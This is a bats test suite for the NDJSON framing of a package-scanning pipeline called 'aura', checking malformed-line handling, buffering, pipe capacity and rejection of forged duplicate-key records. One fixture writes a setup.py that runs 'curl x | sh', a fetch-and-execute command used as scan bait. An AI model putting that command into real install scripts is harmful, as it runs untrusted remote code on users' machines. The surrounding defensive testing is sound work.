#!/usr/bin/env bats
# 01-protocol.bats: NDJSON framing shared by every stage (lib/ndjson.c): bad lines become
# error records and the rest of the stream still flows, in order.

load helpers/common

# Stages that copy records they do not handle.
PASS_THROUGH="aura-unpack aura-parse aura-rewrite aura-analyze"

# A stream of: good, garbage, good, over-long, good-with-CRLF, invalid UTF-8, non-object,
# and a final record without its newline (truncated).
make_stream() {
	{
		printf '{"type":"note","v":1,"n":1}\n'
		printf 'this is not json\n'
		printf '{"type":"note","v":1,"n":2}\n'
		printf '{"type":"note","v":1,"pad":"%s"}\n' "$(head -c 5000 /dev/zero | tr '\0' a)"
		printf '{"type":"note","v":1,"n":3}\r\n'
		printf '{"type":"note","v":1,"s":"\xff\xfe"}\n'
		printf '[1,2,3]\n'
		printf '{"type":"note","v":1,"n":4}'
	} > "$BATS_TEST_TMPDIR/stream"
}

@test "every pass-through stage keeps good records in order and reports each bad line" {
	make_stream
	for stage in $PASS_THROUGH; do
		run --separate-stderr "$stage" --max-line 4K < "$BATS_TEST_TMPDIR/stream"
		[ "$status" -eq 0 ] || fail "$stage exited $status: $stderr"
		assert_valid_records
		notes=$(printf '%s\n' "$output" | jq -c 'select(.type=="note") | .n')
		[ "$notes" = "$(printf '1\n2\n3')" ] || fail "$stage: notes were: $notes"
		errors=$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .message')
		[ "$(printf '%s\n' "$errors" | wc -l)" -eq 5 ] || fail "$stage errors: $errors"
		[[ $errors == *"<stdin>:2: invalid JSON"* ]] || fail "$stage: $errors"
		[[ $errors == *"<stdin>:4: line longer than 4096 bytes"* ]] || fail "$stage: $errors"
		[[ $errors == *"<stdin>:6: invalid JSON"* ]] || fail "$stage: $errors"
		[[ $errors == *"<stdin>:7: not a record"* ]] || fail "$stage: $errors"
		[[ $errors == *"<stdin>:8: truncated record"* ]] || fail "$stage: $errors"
		[[ $stderr == *"$stage: <stdin>:2: invalid JSON"* ]] || fail "$stage stderr: $stderr"
		assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .stage' | sort -u)" "$stage"
	done
}

@test "a 100 MB line in the middle of a stream is rejected without buffering it" {
	{
		printf '{"type":"note","v":1,"n":1}\n'
		printf '{"type":"note","v":1,"pad":"'; head -c 100000000 /dev/zero | tr '\0' a; printf '"}\n'
		printf '{"type":"note","v":1,"n":2}\n'
	} > "$BATS_TEST_TMPDIR/big"
	run --separate-stderr /usr/bin/time -f 'maxrss=%M' aura-rewrite --max-line 1M < "$BATS_TEST_TMPDIR/big"
	assert_success
	rss=$(printf '%s\n' "$stderr" | sed -n 's/^maxrss=//p')
	[ "$rss" -lt 60000 ] || fail "peak RSS ${rss} KiB: the long line was buffered"
	assert_equal "$(printf '%s\n' "$output" | jq -c 'select(.type=="note") | .n' | tr '\n' ,)" "1,2,"
	[[ $output == *'"message":"<stdin>:2: line longer than 1048576 bytes"'* ]] || fail "$output"
}

@test "pass-through is byte-exact for records a stage does not handle" {
	line='{"v":1,"type":"custom","z":[1,2.50,{"k":"\u00e9"}],"a":"x"}'
	for stage in $PASS_THROUGH; do
		run --separate-stderr "$stage" <<<"$line"
		assert_success
		[ "$output" = "$line" ] || fail "$stage changed the record: $output"
	done
}

@test "a write error on stdout is detected at exit" {
	[ -w /dev/full ] || skip "no /dev/full"
	run --separate-stderr bash -c 'printf "{\"type\":\"note\",\"v\":1}\n" | aura-rewrite > /dev/full'
	assert_failure 2
	[[ $stderr == *"error writing output"* ]] || fail "stderr: $stderr"
}

@test "--unbuffered flushes each record as it is written" {
	mkfifo "$BATS_TEST_TMPDIR/in"
	aura-rewrite --unbuffered < "$BATS_TEST_TMPDIR/in" > "$BATS_TEST_TMPDIR/out" &
	pid=$!
	exec 5>"$BATS_TEST_TMPDIR/in"
	printf '{"type":"note","v":1,"n":1}\n' >&5
	for _ in $(seq 50); do [ -s "$BATS_TEST_TMPDIR/out" ] && break; sleep 0.1; done
	run cat "$BATS_TEST_TMPDIR/out"
	exec 5>&-
	wait "$pid"
	assert_output '{"type":"note","v":1,"n":1}'
}

@test "every program answers --help and --version and rejects unknown options with exit 2" {
	local version
	version=$(cat "$AURA_ROOT/VERSION")
	for prog in aura-fetch aura-unpack aura-parse aura-rewrite aura-analyze aura-score; do
		run --separate-stderr "$prog" --help
		[ "$status" -eq 0 ] && [[ $output == *"Usage: $prog"* ]] || fail "$prog --help ($status): $output"
		run --separate-stderr "$prog" --version
		[ "$status" -eq 0 ] && [[ $output == "$prog $version"* ]] || fail "$prog --version ($status): $output"
		run --separate-stderr "$prog" --no-such-option
		[ "$status" -eq 2 ] || fail "$prog --no-such-option exited $status"
	done
	run --separate-stderr aura --help
	assert_success
	assert_output --partial "Usage: aura scan"
	run --separate-stderr aura frobnicate
	assert_failure 2
}

@test "records from several producers into one pipe never interleave (xargs -P)" {
	# Each aura-fetch writes ~120 KB of artifact records: with 64 KiB stdio blocks the
	# records were split across write(2) calls and other producers' bytes landed inside.
	mkdir "$BATS_TEST_TMPDIR/many"
	for i in $(seq 1 4000); do echo "x = $i" > "$BATS_TEST_TMPDIR/many/f$i.py"; done
	ls "$BATS_TEST_TMPDIR"/many/*.py | xargs -P8 -n500 aura-fetch > "$BATS_TEST_TMPDIR/out"
	run jq -c 'select(.type == "artifact") | .kind' "$BATS_TEST_TMPDIR/out"
	assert_success
	assert_equal "$(printf '%s\n' "$output" | wc -l)" 4000
	assert_equal "$(wc -l < "$BATS_TEST_TMPDIR/out")" 4000
}

@test "every stage writing into a pipe enlarges it to 1 MiB (stages wait on each other less)" {
	# The reader takes all of the stage's output, then asks the pipe's capacity: by then the
	# writer's out_init has run, so the answer does not depend on timing.
	capacity='import fcntl, sys; sys.stdin.buffer.read(); print(fcntl.fcntl(0, 1032))'	# F_GETPIPE_SZ
	for stage in aura-fetch aura-unpack aura-parse aura-rewrite aura-analyze aura-score; do
		run bash -c "$stage < /dev/null | python3 -c '$capacity'"
		assert_success
		assert_equal "$stage: $output" "$stage: 1048576"
	done
	# Into a regular file nothing is asked: the file is written as before.
	aura-fetch "$AURA_ROOT/examples" > "$BATS_TEST_TMPDIR/out.ndjson"
	run jq -r .type "$BATS_TEST_TMPDIR/out.ndjson"
	assert_success
	assert_line artifact
}

@test "a record with a repeated key is an error record in every stage, never last-one-wins" {
	for stage in $PASS_THROUGH; do
		run --separate-stderr "$stage" < <(
			printf '{"type":"note","v":1,"n":1}\n'
			printf '{"type":"file","type":"artifact_end","artifact":"A","files":0,"complete":true}\n'
			printf '{"type":"note","v":1,"n":{"k":1,"k":2}}\n'
			printf '{"type":"note","v":1,"n":2}\n')
		[ "$status" -eq 0 ] || fail "$stage exited $status: $stderr"
		assert_valid_records
		assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type!="error") | .n' | tr '\n' ,)" "1,2,"
		assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .message')" \
			"<stdin>:2: invalid JSON at column 16: duplicate object key 'type'
<stdin>:3: invalid JSON at column 33: duplicate object key 'k'"
	done
	# the sink too: the forged line is a bad line while A is open, so A is incomplete
	run -2 --separate-stderr aura-score --format json < <(
		printf '{"type":"artifact","v":1,"id":"A"}\n'
		printf '{"type":"file","type":"artifact_end","artifact":"A","files":0,"complete":true}\n'
		printf '{"type":"artifact_end","v":1,"artifact":"A","files":0,"complete":true}\n')
	assert_equal "$(jq -c '[.complete, .incomplete_reasons]' <<<"$output")" \
		'[false,["a bad input line while it was open (<stdin>:2)"]]'
	[[ $stderr == *"<stdin>:2: invalid JSON at column 16: duplicate object key 'type'"* ]] || fail "$stderr"
}

@test "unpack relays a worker's line by its parsed type: a forged artifact_end is dropped, the artifact incomplete" {
	local dir="$BATS_TEST_TMPDIR" id
	printf 'import os\nos.system("curl x | sh")\n' > "$dir/setup.py"
	tar -C "$dir" -czf "$dir/p.tar.gz" setup.py
	id=$(sha256sum "$dir/p.tar.gz" | cut -d' ' -f1)
	# (3>&-: the emitting self-test writes to every descriptor it has, and fd 3 is bats' own.)
	# A compromised worker writes a record that starts like a file record but whose type,
	# as the reader keeps the last duplicate, is a clean, complete artifact_end.
	local forged='{"type":"file","type":"artifact_end","v":1,"artifact":"'"$id"'","files":0,"hits":0,"errors":0,"complete":true}'
	run -0 --separate-stderr aura-unpack --sandbox-selftest "worker:emit:$forged" \
		< <(jq -nc --arg t "$dir/p.tar.gz" '{type:"target",v:1,target:$t}' | aura-fetch) 3>&-
	assert_valid_records
	assert_equal "$(printf '%s\n' "$output" | jq -c 'select(.type=="artifact_end") | [.files,.errors,.complete]')" '[0,1,false]'
	assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .message')" \
		"worker sent a line that is not a file, hit or error record (invalid JSON at column 16: duplicate object key 'type'); dropped"
	run -2 --separate-stderr aura-score --format json <<<"$output"
	assert_equal "$(jq -c '[.artifact.id == "'"$id"'", .complete]' <<<"$output")" '[true,false]'
	# another record type, well-formed, is refused as well
	run -0 --separate-stderr aura-unpack --sandbox-selftest 'worker:emit:{"type":"artifact_end","v":1,"artifact":"x"}' \
		< <(jq -nc --arg t "$dir/p.tar.gz" '{type:"target",v:1,target:$t}' | aura-fetch) 3>&-
	assert_equal "$(printf '%s\n' "$output" | jq -r 'select(.type=="error") | .message')" \
		"worker sent a line that is not a file, hit or error record (a record of type 'artifact_end', not one this stage relays); dropped"
}
